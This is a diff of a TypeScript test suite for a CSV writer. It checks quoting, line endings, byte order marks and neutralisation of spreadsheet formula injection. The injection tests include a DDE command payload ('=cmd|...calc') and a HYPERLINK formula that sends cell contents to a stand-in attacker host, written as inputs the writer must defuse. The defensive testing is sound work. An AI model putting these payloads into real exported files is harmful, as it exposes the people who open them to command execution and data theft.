@@ -18,36 +18,73 @@ function parseCsv(text: string): string[][] {
   return rows
 }
 
-/** One row of a file, as it is written behind mark and header. */
-function rowOf(cells: readonly Cell[]): string {
-  return toCsv(['header'], [cells]).slice('\uFEFFheader\r\n'.length)
+/**
+ * The cells as a spreadsheet has them whose list separator is this one: a quotation mark counts where a cell begins, and what stands
+ * behind the closing one is read on as it is.
+ */
+function cellsOf(text: string, separator: string): string[] {
+  const cells: string[] = []
+  for (let at = 0; at < text.length; ) {
+    let cell = ''
+    if (text[at] === '"') {
+      for (at += 1; at < text.length; at++) {
+        if (text[at] !== '"') cell += text[at]
+        else if (text[at + 1] === '"') cell += text[at++]
+        else break
+      }
+      at += 1
+    }
+    while (at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r') cell += text[at++]
+    cells.push(cell)
+    at += 1
+  }
+  return cells
+}
+
+const live = /^[\s\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u
+
+/** One row of a file, as it is written behind the header. */
+function rowOf(cells: readonly Cell[], options: Parameters<typeof toCsv>[2] = {}): string {
+  const file = toCsv(['header'], [cells], options)
+  return file.slice(file.indexOf('\n') + 1)
 }
 
 describe('toCsv', () => {
-  test('writes a byte order mark, CRLF after each line, numbers as numbers, null as nothing', () => {
+  test('writes CRLF after each line, numbers as numbers, null as nothing', () => {
     const rows = [
       ['Saber, "Squad"', 3, null],
       ['two\nlines', -1.5, ''],
     ]
     expect(toCsv(['name', 'seed', 'note'], rows)).toBe(
-      '\uFEFFname,seed,note\r\n"Saber, ""Squad""",3,\r\n"two\nlines",-1.5,\r\n',
+      'name,seed,note\r\n"Saber, ""Squad""",3,\r\ntwo / lines,-1.5,\r\n',
     )
   })
 
   test('writes a header alone', () => {
-    expect(toCsv(['a', 'b'], [])).toBe('\uFEFFa,b\r\n')
+    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n')
   })
 
-  test('is UTF-8 with its mark', () => {
-    expect([...Buffer.from(toCsv(['é'], []))].slice(0, 5)).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9])
+  test('begins with a byte order mark where a spreadsheet is to open it, or it always does', () => {
+    for (const options of [{ for: 'spreadsheet' }, { hasMark: true }] as const) {
+      expect([...Buffer.from(toCsv(['é'], [], options))].slice(0, 5)).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9])
+    }
   })
 
-  test('loses nothing, whatever the text', () => {
-    // A cell that is never empty or a formula, so that a row is never a blank line or changed on purpose.
-    const cell = fc.string({ unit: 'binary' }).map((text) => `x${text}`)
+  test('keeps long identifiers from being rounded, for spreadsheets alone', () => {
+    const cells = ['123456789012345', '1234567890123456', '1234567890123456x', 1234567890123456]
+    expect(rowOf(cells)).toBe('123456789012345,1234567890123456,1234567890123456x,1234567890123456\r\n')
+    expect(rowOf(cells, { for: 'spreadsheet' })).toBe(
+      "123456789012345,'1234567890123456,1234567890123456x,1234567890123456\r\n",
+    )
+  })
+
+  test('loses nothing but line breaks, whatever the text', () => {
+    // A cell that is never empty, so that a row is never a blank line; apostrophes are added on purpose.
+    const cell = fc.string({ unit: 'binary' }).map((text) => `x${text.replaceAll(/['\n\v\f\r\x85\u2028\u2029]/g, '')}`)
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 })), (rows) => {
-        expect(parseCsv(toCsv(['a', 'b', 'c'], rows).slice(1))).toEqual([['a', 'b', 'c'], ...rows])
+        const read = parseCsv(toCsv(['a', 'b', 'c'], rows)).map((row) => row.map((text) => text.replaceAll("'", '')))
+        expect(read).toEqual([['a', 'b', 'c'], ...rows])
       }),
     )
   })
@@ -55,26 +92,39 @@ describe('toCsv', () => {
 
 describe('a cell that a spreadsheet would run', () => {
   test.each([
-    '=1+1',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    '\t=1',
-    '\r=1',
-    '\n=1',
-    '  =1',
-    '\u00A0=1',
-    '\u200B=1',
-    '＝1',
-    '＋1',
-    '－1',
-    '＠A',
-    '\u22121',
-    '-',
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    ...[
+      '=1+1',
+      '+1',
+      '-1',
+      '@SUM(A1)',
+      '\t=1',
+      '  =1',
+      '\u00A0=1',
+      '\u200B=1',
+      '＝1',
+      '＋1',
+      '－1',
+      '＠A',
+      '\u22121',
+      '-',
+    ],
+    ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', '"=1"'],
   ])('%j gets an apostrophe', (text) => {
-    expect(parseCsv(rowOf([text]))).toEqual([[`'${text}`]])
+    expect(parseCsv(rowOf([text]))[0]?.[0]?.startsWith("'")).toBe(true)
+  })
+
+  test.each([
+    ['Nice;=1+1;team', "Nice;'=1+1;team"],
+    ['a,=1', "a,'=1"],
+    ['a\t=1', "a\t'=1"],
+    ['a; @x;;-1', "a;' @x;;'-1"],
+    ['a;"=1', `a;'"=1`],
+    ['a\n=1', 'a / =1'],
+    ['=a\r\n=1', "'=a / =1"],
+    ['1,2,3', '1,2,3'],
+    ['a;b, c\td', 'a;b, c\td'],
+  ])('%j is written %j', (text, written) => {
+    expect(parseCsv(rowOf([text]))).toEqual([[written]])
   })
 
   test.each(['a=1', '1-2', 'a@b.example', "'x", ' a', '3', '(=1)'])('%j is none', (text) => {
@@ -86,6 +136,39 @@ describe('a cell that a spreadsheet would run', () => {
   })
 
   test('may be in the header too', () => {
-    expect(toCsv(['=1'], [])).toBe("\uFEFF'=1\r\n")
+    expect(toCsv(['=1'], [])).toBe("'=1\r\n")
+  })
+
+  test.each([',', ';', '\t'])('begins nowhere when the file is read with %j', (separator) => {
+    const pieces = [
+      '=',
+      '+',
+      '-',
+      '@',
+      '＝',
+      '＠',
+      ',',
+      ';',
+      '\t',
+      '\n',
+      '\r\n',
+      '\u2028',
+      '"',
+      '""',
+      "'",
+      ' ',
+      '\u200B',
+      'a',
+      '1',
+    ]
+    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 12 }).map((parts) => parts.join(''))
+    const rows = fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { maxLength: 4 })
+    fc.assert(
+      fc.property(rows, fc.constantFrom('spreadsheet' as const, undefined), (table, purpose) => {
+        const file = toCsv(['a', 'b'], table, { for: purpose }).replace(/^\uFEFF/, '')
+        expect(cellsOf(file, separator).filter((cell) => live.test(cell))).toEqual([])
+      }),
+      { numRuns: 5_000 },
+    )
   })
 })
